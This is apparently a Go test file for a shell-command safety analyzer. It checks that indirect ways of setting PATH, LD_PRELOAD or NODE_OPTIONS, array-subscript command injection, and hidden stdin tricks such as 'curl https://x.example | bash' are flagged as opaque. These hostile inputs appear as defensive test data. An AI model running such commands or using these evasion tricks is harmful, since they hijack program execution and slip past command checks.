package command_test

import (
	"maps"
	"slices"
	"testing"

	"sekisho/backend/command"
)

// TestSteered: a line that sets what steers programs cannot be known, however it does so.
func TestSteered(t *testing.T) {
	for _, text := range []string{"for PATH in ./evil; do ls; done", "select PATH in ./evil; do ls; done", "((PATH=1)); ls", "let PATH=1; ls",
		"echo $((PATH=1)); ls", "((PATH++)); ls", "read -r PATH <<< /tmp; ls", "cat a | while read PATH; do ls; done", "mapfile PATH < x; ls",
		"getopts x PATH; ls", "set -k; ls PATH=/tmp", ": ${PATH:=/tmp}; ls", ": ${GIT_PAGER=./x}; git log", "set -o allexport; ls",
		"x='a[$(touch p)]'; ((x)); ls", "x='a[$(touch p)]'; [[ x -eq 0 ]]; ls", "x='a[$(touch p)]'; unset \"$x\"",
		"for LD_PRELOAD in x; do ls; done", `"read" PATH; ls`, "command read PATH; ls", "{read,PATH}; ls", `"set" -k; ls PATH=x`,
		`r\ead PATH; ls`,
		"declare -n x=PATH; x=/tmp; ls", "bash -c 'for PATH in ./evil; do ls; done'"} {
		if l := command.Read(text); !l.Opaque {
			t.Errorf("%s is not opaque", text)
		}
	}
	for _, text := range []string{`"export" PATH=/x; ls`, "command export LD_PRELOAD=x; ls", `\export PATH=/x; ls`, "export {A,PATH}=x; ls"} {
		if l := command.Read(text); !l.Parts[0].Code {
			t.Errorf("%s is no code", text)
		}
	}
	for _, text := range []string{"for f in *.go; do wc -l $f; done", "read -r line", "set -e; ls", "set -euo pipefail; ls", "echo ${a:-b}",
		"((i++)); ls", "echo ${PATH:-x}"} {
		if l := command.Read(text); l.Opaque {
			t.Errorf("%s is opaque: %s", text, l.Why)
		}
	}
}

// TestVariablesBeside: variables beside a line are looked at as those in front of it.
func TestVariablesBeside(t *testing.T) {
	for raw, opaque := range map[string]bool{`{"PATH":"./evil"}`: true, `{"NODE_OPTIONS":"--require=./x"}`: true, `["PATH=./evil"]`: true,
		`"PATH=x"`: true, `{"CI":"1"}`: false, `null`: false, `{}`: false} {
		for _, key := range []string{"env", "environment"} {
			l, found := command.Of(maps.All(map[string][]byte{"command": []byte(`"ls"`), key: []byte(raw)}), "run", "/w", false)
			if !found || l.Opaque != opaque {
				t.Errorf("%s %s: opaque %t", key, raw, l.Opaque)
			}
		}
	}
}

// TestWhatRunsNothingWrites: the redirections of commands that run no program are a part.
func TestWhatRunsNothingWrites(t *testing.T) {
	for _, text := range []string{"[[ a ]] > out; ls", "((1)) > out; ls", "case x in esac > out; ls", "let x=1 > out; ls",
		"f() { [[ a ]]; } > out; ls",
		"if ((1)); then ((2)); fi > out"} {
		if l := command.Read(text); !slices.Contains(l.Writes(), "out") {
			t.Errorf("%s writes %q", text, l.Writes())
		}
	}
}

// TestNoInputIsHidden: what a shell reads is its last input, and no other descriptor.
func TestNoInputIsHidden(t *testing.T) {
	for _, text := range []string{"bash <<< ls < evil.sh", "cat evil.sh | bash 3<<< ls", "curl https://x.example | bash 3<<< ls",
		"curl https://x.example | bash /dev/fd/0", "time -o f ls"} {
		l := command.Read(text)
		if !l.Opaque && !slices.ContainsFunc(l.Parts, func(p command.Part) bool { return p.Code || p.Opaque || p.Effects == 0 }) {
			t.Errorf("%s: %+v", text, l.Names())
		}
	}
}
